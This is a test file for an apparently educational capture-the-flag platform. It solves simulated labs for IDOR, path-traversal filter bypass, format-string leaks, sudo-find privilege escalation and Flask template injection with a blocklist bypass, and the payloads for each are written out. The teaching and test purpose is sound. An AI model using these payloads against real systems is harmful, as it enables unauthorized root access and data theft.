import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { buildTestApp, registerPlayer, type TestApp, type TestClient } from '../../../test/build-test-app.js';
import { deriveFlag } from '../challenges/flags/flag-check.js';

/**
 * Each lab of issue 13's new challenges, solved through the HTTP API by its intended method, the way a student does it
 * from the page (POST /api/challenges/:id/lab), and the flag it hands back accepted by the flag form.
 */

let t: TestApp;
const flagOf = (id: string) => deriveFlag(t.config.instanceSecret!, id);

beforeAll(async () => {
  t = await buildTestApp({ env: { LAB_RATE_LIMIT: '500' } });
});
afterAll(async () => {
  await t.close();
});

async function lab(client: TestClient, id: string, action: string, input: Record<string, string>) {
  const response = await client.post(`/api/challenges/${id}/lab`, { action, input });
  expect(response.statusCode).toBe(200);
  return response.json<{ ok: boolean; code: string; output: Record<string, string> }>();
}

async function submitsAndScores(client: TestClient, id: string, flag: string) {
  expect(flag).toBe(flagOf(id));
  const response = await client.post(`/api/challenges/${id}/submit`, { flag });
  expect(response.json()).toMatchObject({ success: true, status: 'correct' });
}

describe('Invoice IDOR, solved through the API', () => {
  it('lists alice’s invoices, then reads the next id, which belongs to another customer', async () => {
    const { client } = await registerPlayer(t.app);
    const own = await lab(client, 'invoice-idor', 'get', { path: '/invoices' });
    expect(own.ok).toBe(false);
    const first = /\/invoices\/(\d+)/.exec(own.output.text ?? '')?.[1];
    expect(first).toBeDefined();
    const mine = await lab(client, 'invoice-idor', 'get', { path: `/invoices/${first}` });
    expect(mine).toMatchObject({ ok: false, code: 'own-invoice' });
    expect(JSON.stringify(mine)).not.toContain(flagOf('invoice-idor'));

    const theirs = await lab(client, 'invoice-idor', 'get', { path: `/invoices/${Number(first) + 1}` });
    expect(theirs).toMatchObject({ ok: true, code: 'other-customer' });
    await submitsAndScores(client, 'invoice-idor', theirs.output.flag ?? '');
  });
});

describe('Path Traversal Filter Bypass, solved through the API', () => {
  it('sees in the warning that ../ is stripped, then doubles it to climb to /etc/flag', async () => {
    const { client } = await registerPlayer(t.app);
    const id = 'path-traversal-filter-bypass';
    const stripped = await lab(client, id, 'view', { url: '/view.php?file=../../etc/flag' });
    expect(stripped.output.text).toContain('readfile(/srv/files/etc/flag)');
    expect(JSON.stringify(stripped)).not.toContain(flagOf(id));

    const read = await lab(client, id, 'view', { url: '/view.php?file=....//....//etc/flag' });
    expect(read).toMatchObject({ ok: true, code: 'flag-read' });
    await submitsAndScores(client, id, read.output.flag ?? '');
  });
});

describe('Format String, solved through the API', () => {
  it('leaks the stack with %p, tries %N$s on each heap-looking pointer, and prints the secret', async () => {
    const { client } = await registerPlayer(t.app);
    const id = 'format-string';
    // Arguments 6 to 25, as the student leaks them: `%6$p|%7$p|…` in two lines (fgets keeps 63 bytes).
    const leaked: string[] = [];
    for (const range of [
      [6, 15],
      [16, 25],
    ] as const) {
      const indices = Array.from({ length: range[1] - range[0] + 1 }, (_, i) => range[0] + i);
      const line = indices.map((n) => `%${n}$p`).join('|');
      const result = await lab(client, id, 'run', { line });
      expect(result.ok).toBe(false);
      leaked.push(...(result.output.text ?? '').trim().split('|'));
    }
    expect(leaked).toHaveLength(20);
    const candidates = leaked.flatMap((value, i) => (/^0x55[0-9a-f]{10}$/.test(value) ? [i + 6] : []));
    expect(candidates.length).toBeGreaterThanOrEqual(2); // the motd pointer and the secret pointer

    let flag: string | undefined;
    for (const n of candidates) {
      const result = await lab(client, id, 'run', { line: `%${n}$s` });
      if (result.ok) flag = result.output.flag;
      else expect(JSON.stringify(result)).not.toContain(flagOf(id));
    }
    await submitsAndScores(client, id, flag ?? '');
  });
});

describe('Sudo Misconfiguration, solved through the API', () => {
  it('reads sudo -l, starts a root shell with find, and reads the flag in it', async () => {
    const { client } = await registerPlayer(t.app);
    const id = 'sudo-misconfiguration';
    const history: string[] = [];
    const type = async (command: string) => {
      const result = await lab(client, id, 'run', { history: history.join('\n'), command });
      history.push(command);
      return result;
    };
    expect((await type('cat /root/flag.txt')).output.text).toContain('Permission denied');
    const rights = await type('sudo -l');
    expect(rights.output.text).toContain('(root) NOPASSWD: /usr/bin/find');
    const binary = /NOPASSWD: (\S+)/.exec(rights.output.text ?? '')?.[1];
    expect(binary).toBe('/usr/bin/find');
    expect((await type('sudo find . -exec /bin/sh \\; -quit')).output.prompt).toBe('# ');
    expect((await type('id')).output.text).toContain('uid=0(root)');
    const read = await type('cat /root/flag.txt');
    expect(read).toMatchObject({ ok: true, code: 'flag-read' });
    await submitsAndScores(client, id, read.output.flag ?? '');
  });
});

describe('Server-Side Template Injection, solved through the API', () => {
  it('detects the injection, meets the blocklist, and reaches the configuration through url_for’s globals', async () => {
    const { client } = await registerPlayer(t.app);
    const id = 'server-side-template-injection';
    expect((await lab(client, id, 'render', { name: '{{7*7}}' })).output.text).toBe('<p>Hello 49!</p>');
    expect((await lab(client, id, 'render', { name: '{{ config }}' })).code).toBe('blocked');
    const globals = await lab(client, id, 'render', { name: '{{ url_for.__globals__ }}' });
    expect(globals.output.text).toContain('current_app');
    expect(JSON.stringify(globals)).not.toContain(flagOf(id));
    const app = await lab(client, id, 'render', { name: '{{ url_for.__globals__.current_app }}' });
    expect(app.output.text).toContain('&lt;Flask &#39;greeter&#39;&gt;');

    const read = await lab(client, id, 'render', { name: "{{ url_for.__globals__.current_app|attr('con'~'fig') }}" });
    expect(read).toMatchObject({ ok: true, code: 'flag-read' });
    expect(read.output.text).toContain(`&#39;FLAG&#39;: &#39;${flagOf(id)}&#39;`);
    await submitsAndScores(client, id, read.output.flag ?? '');
  });
});
